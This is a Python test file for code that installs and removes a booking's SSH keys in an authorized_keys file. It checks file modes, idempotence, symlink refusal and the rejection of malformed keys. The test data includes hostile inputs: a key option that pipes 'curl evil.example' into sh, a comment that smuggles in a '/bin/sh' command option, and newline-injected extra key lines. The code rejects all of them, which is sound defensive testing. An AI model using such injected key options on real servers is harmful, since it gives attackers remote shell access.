"""Installing and removing a booking's SSH keys in an authorized_keys file."""

import base64
import os
import stat

import pytest
from gpux_agent.access import (
    AccessError,
    InvalidKey,
    booking_keys,
    install_keys,
    marker,
    normalise_key,
    remove_keys,
)

from tests.agent.helpers import ecdsa_key, ed25519_key, rsa_key

PROVIDER_LINES = [
    "# managed by the provider's ops team",
    f"{' '.join(ed25519_key(200).split()[:2])} ops@provider",
]


def type_and_body(key: str) -> str:
    return " ".join(key.split()[:2])


@pytest.fixture
def keys_file(tmp_path):
    ssh_dir = tmp_path / ".ssh"
    ssh_dir.mkdir(mode=0o700)
    return ssh_dir / "authorized_keys"


@pytest.fixture
def provider_file(keys_file):
    keys_file.write_text("\n".join(PROVIDER_LINES) + "\n")
    keys_file.chmod(0o644)
    return keys_file


def test_install_writes_tagged_lines_with_mode_0600(keys_file):
    # given
    keys = [ed25519_key(1), rsa_key(3072)]

    # when
    count = install_keys(keys_file, 42, keys)

    # then
    assert count == 2
    assert keys_file.read_text().splitlines() == [f"{type_and_body(key)} gpux-booking-42" for key in keys]
    assert stat.S_IMODE(keys_file.stat().st_mode) == 0o600


def test_installing_twice_is_idempotent(keys_file):
    keys = [ed25519_key(1), ecdsa_key("nistp384", 48)]
    install_keys(keys_file, 42, keys)
    first = keys_file.read_bytes()

    assert install_keys(keys_file, 42, keys) == 2

    assert keys_file.read_bytes() == first


def test_the_same_key_twice_is_installed_once(keys_file):
    assert install_keys(keys_file, 5, [ed25519_key(9, "a"), ed25519_key(9, "b")]) == 1

    assert len(keys_file.read_text().splitlines()) == 1


def test_reinstalling_replaces_the_bookings_previous_keys(keys_file):
    install_keys(keys_file, 42, [ed25519_key(1)])

    install_keys(keys_file, 42, [ed25519_key(2)])

    assert booking_keys(keys_file, 42) == [type_and_body(ed25519_key(2))]


def test_install_keeps_other_lines_and_tightens_the_mode(provider_file):
    install_keys(provider_file, 7, [ed25519_key(7)])

    expected_line = f"{type_and_body(ed25519_key(7))} gpux-booking-7"
    assert provider_file.read_text().splitlines() == [*PROVIDER_LINES, expected_line]
    assert stat.S_IMODE(provider_file.stat().st_mode) == 0o600


def test_remove_deletes_only_that_bookings_lines(provider_file):
    # given: bookings 1 and 12 share a prefix, which must not matter
    install_keys(provider_file, 1, [ed25519_key(1), rsa_key(4096)])
    install_keys(provider_file, 12, [ed25519_key(12)])

    # when
    removed = remove_keys(provider_file, 1)

    # then
    assert removed == 2
    assert provider_file.read_text().splitlines() == [
        *PROVIDER_LINES,
        f"{type_and_body(ed25519_key(12))} gpux-booking-12",
    ]


def test_removing_again_changes_nothing(provider_file):
    install_keys(provider_file, 3, [ed25519_key(3)])
    remove_keys(provider_file, 3)
    after_first = provider_file.read_bytes()

    assert remove_keys(provider_file, 3) == 0

    assert provider_file.read_bytes() == after_first


def test_removing_from_a_missing_file_creates_nothing(keys_file):
    assert remove_keys(keys_file, 3) == 0

    assert not keys_file.exists()


def test_a_rewrite_leaves_no_temporary_file(keys_file):
    install_keys(keys_file, 42, [ed25519_key(1)])
    remove_keys(keys_file, 42)

    assert os.listdir(keys_file.parent) == ["authorized_keys"]


def test_the_buyers_comment_is_replaced_by_the_marker(keys_file):
    install_keys(keys_file, 8, [ed25519_key(4, comment='x" no-pty command="/bin/sh')])

    assert keys_file.read_text() == f"{type_and_body(ed25519_key(4))} gpux-booking-8\n"


RSA_2048_BODY = rsa_key(2048).split()[1]
ED25519_BODY = ed25519_key(1).split()[1]


@pytest.mark.parametrize(
    ("key", "reason"),
    [
        (f'command="curl evil.example | sh" ssh-ed25519 {ED25519_BODY}', "is not one of"),
        (f'no-pty,from="*" ssh-ed25519 {ED25519_BODY}', "is not one of"),
        (f"ssh-ed25519 {ED25519_BODY}\nssh-ed25519 {ED25519_BODY} second", "line break"),
        (f"ssh-ed25519 {ED25519_BODY}\rx", "line break"),
        (f"ssh-ed25519 {ED25519_BODY} \x00", "line break or control"),
        (f"ssh-dss {ED25519_BODY}", "'ssh-dss' is not one of"),
        ("ssh-ed25519", "has no base64 body"),
        ("ssh-ed25519 not-base64!!", "has no base64 body"),
        ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI", "not valid base64"),
        (f"ssh-ed25519 {RSA_2048_BODY}", "does not start with its own type"),
        (f"ssh-rsa {RSA_2048_BODY}", "2048 bits; at least 3072"),
        (f"ssh-ed25519 {base64.b64encode(base64.b64decode(ED25519_BODY)[:-1]).decode()}", "truncated"),
        (f"ecdsa-sha2-nistp256 {ecdsa_key('nistp384', 48).split()[1]}", "does not start with its own type"),
        ("", "key is empty"),
        ("x" * 20000, "longer than"),
    ],
)
def test_bad_keys_are_refused(key, reason):
    with pytest.raises(InvalidKey) as refused:
        normalise_key(key)

    assert reason in str(refused.value)


def test_each_accepted_type_is_normalised_to_type_and_body():
    for key in (ed25519_key(1), rsa_key(3072), ecdsa_key("nistp256", 32), ecdsa_key("nistp521", 66, "me@x")):
        assert normalise_key(key) == type_and_body(key)


def test_one_bad_key_means_nothing_is_written(provider_file):
    before = provider_file.read_bytes()

    with pytest.raises(InvalidKey):
        install_keys(provider_file, 9, [ed25519_key(1), f"ssh-rsa {RSA_2048_BODY}"])

    assert provider_file.read_bytes() == before


def test_a_booking_without_keys_is_refused(keys_file):
    with pytest.raises(InvalidKey, match="no key to install"):
        install_keys(keys_file, 9, [])

    assert not keys_file.exists()


def test_a_symlinked_authorized_keys_is_refused_and_its_target_untouched(tmp_path, keys_file):
    target = tmp_path / "root_authorized_keys"
    target.write_text("ssh-ed25519 AAAA root@admin\n")
    keys_file.symlink_to(target)

    with pytest.raises(AccessError, match="symlink"):
        install_keys(keys_file, 9, [ed25519_key(1)])

    assert target.read_text() == "ssh-ed25519 AAAA root@admin\n"
    assert keys_file.is_symlink()


def test_a_symlinked_ssh_directory_is_refused(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".ssh").symlink_to(elsewhere)

    with pytest.raises(AccessError, match="symlink"):
        install_keys(tmp_path / "home" / ".ssh" / "authorized_keys", 9, [ed25519_key(1)])

    assert os.listdir(elsewhere) == []


def test_a_missing_directory_is_refused(tmp_path):
    with pytest.raises(AccessError, match="does not exist"):
        install_keys(tmp_path / "nobody" / ".ssh" / "authorized_keys", 9, [ed25519_key(1)])


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can hand a file to another owner")
def test_the_rewritten_file_keeps_its_owner(provider_file):
    os.chown(provider_file, 65534, 65534)

    install_keys(provider_file, 9, [ed25519_key(1)])

    assert (provider_file.stat().st_uid, provider_file.stat().st_gid) == (65534, 65534)


@pytest.mark.parametrize("booking", [-1, "7", True, 1.0])
def test_a_marker_needs_a_booking_number(booking):
    with pytest.raises(ValueError, match="booking id"):
        marker(booking)
